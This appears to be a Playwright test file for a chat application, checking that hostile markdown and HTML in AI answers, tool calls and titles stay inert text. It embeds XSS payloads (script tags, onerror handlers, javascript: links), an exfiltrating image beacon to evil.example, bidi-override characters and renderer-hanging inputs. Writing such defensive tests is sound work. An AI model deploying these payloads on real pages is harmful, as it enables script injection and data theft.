"""Answers that are out to harm their reader: what is written in them stays text."""

import base64
import json

import pytest
from playwright.async_api import expect

from chat.tests.browser.chat_page import ChatPage, Says, said

pytestmark = [pytest.mark.once, pytest.mark.django_db(transaction=True)]

PIXEL = base64.b64encode(
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk")
    + base64.b64decode("YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
).decode()
HARMFUL = f"""
<script>window.harmed = "script"</script>
<img src=x onerror="window.harmed = 'image'">
<svg onload="window.harmed = 'svg'"><style>body {{ display: none }}</style></svg>
<iframe srcdoc="<script>top.harmed = 'frame'</script>"></iframe>
<a href="javascript:window.harmed = 'tag'">tag</a>

[one](javascript:window.harmed='link') [two](JaVaScRiPt&colon;harmed=1)
[three](data:text/html,<script>harmed=1</script>) [four](vbscript:x) <javascript:x>
[five](//evil.example/x) [six](/admin/logout/) [good](https://good.example/?a=1&b=2)

![beacon](https://evil.example/pixel.png?said=secret)
![](http://evil.example/other.gif) ![svg](data:image/svg+xml;base64,PHN2Zy8+)
![dot](data:image/png;base64,{PIXEL})
[![nested](https://evil.example/a.png)](https://evil.example/b)

```html" onmouseover="harmed=1
<script>harmed = "code"</script>
```

```python
access = "user\u202e \u2066# admin\u2069 \u2066"
```

```mermaid
graph TD; A["<img src=x onerror=harmed=1>"] --> B
```

$\\href{{javascript:harmed=1}}{{<img src=x onerror=harmed=1>}}$ and `<b>\u202e</b>`

| <script>harmed=1</script> | b |
| --- | ---: |
| <img src=x onerror=harmed=1> | \u202edesrever |

Turned \u202earound, https://bare.example/ too
"""


async def test_harmful_markdown_and_html_stay_text(told: ChatPage, says: Says) -> None:
    says.pieces = [HARMFUL[:200], HARMFUL[200:]]
    answer = await told.ask("Harm me <img src=x onerror=window.harmed=1>")
    text = said(answer)
    await expect(text).to_contain_text("<script>window.harmed")
    await expect(text).to_contain_text("<iframe srcdoc=")
    await expect(told.questions).to_contain_text("<img src=x onerror")
    assert await told.page.evaluate("window.harmed") is None
    forbidden = "script, iframe, svg:not(.icon), style, [onerror], [onload], [style]"
    assert await text.locator(forbidden).count() == 0
    links = text.locator("a[href]")
    addresses = await links.evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert sorted(set(addresses)) == [
        "http://evil.example/other.gif",
        "https://bare.example/",
        "https://evil.example/a.png",
        "https://evil.example/b",
        "https://evil.example/pixel.png?said=secret",
        "https://good.example/?a=1&b=2",
    ]
    for link in await links.all():
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert await link.get_attribute("target") == "_blank"
    images = await text.locator("img").evaluate_all("all => all.map(i => i.src)")
    assert images == [f"data:image/png;base64,{PIXEL}"]
    boxes = text.locator(".code-frame .turning")
    names = await boxes.evaluate_all("all => all.map(box => box.dataset.name)")
    assert names == ["U+202E", "U+2066", "U+2069", "U+2066"]
    code = await text.locator(".code-frame .code").nth(1).text_content()
    assert code == 'access = "user\u202e \u2066# admin\u2069 \u2066"\n'
    # Nobody was called but this service.
    assert all(url.startswith((told.url, "data:")) for url in told.addresses)


async def test_what_is_nested_or_long_without_end_is_drawn_in_time(
    told: ChatPage, says: Says
) -> None:
    for text in (
        ">" * 5000 + " deep",
        "".join(f"{'  ' * depth}- x\n" for depth in range(300)),
        "[" * 20_000 + "](" * 5000,
        "*a _b " * 10_000 + "`" * 10_000,
        "|" * 3000 + "\n" + "|-" * 3000 + "|\n" + "|x" * 3000,
        "a\u0300" * 20_000 + "\u202e" * 5000,
    ):
        says.pieces = [text[: len(text) // 2], text[len(text) // 2 :]]
        await told.ask("Make it hard")
        await told.page.get_by_role("link", name="New conversation").click()
        await expect(told.answers).to_have_count(0)


async def test_a_harmful_title_tool_call_and_error_stay_text(
    told: ChatPage, says: Says
) -> None:
    says.calls = [("<b>name</b>", json.dumps({"x": "<img src=x onerror=harmed=1>"}))]
    await told.use_tools()
    answer = await told.ask("<img src=x onerror=window.harmed=1>\u202e")
    await expect(answer.locator(".call-name")).to_have_text(
        "name"
    )  # which is repaired before
    await expect(answer.locator(".call-text").first).to_contain_text("<img src=x")
    await expect(told.conversations).to_contain_text("<img src=x")
    assert await told.page.evaluate("window.harmed") is None


async def test_the_pages_policy_forbids_what_a_fault_of_ours_would_let_in(
    told: ChatPage,
) -> None:
    outcome = await told.page.evaluate("""() => {
      try {
        document.body.innerHTML = "<img src=x onerror=alert(1)>";
        return "taken";
      } catch (error) {
        return error.name;
      }
    }""")
    assert outcome == "TypeError"
    assert len(told.faults) == 1 and "TrustedHTML" in told.faults.pop()
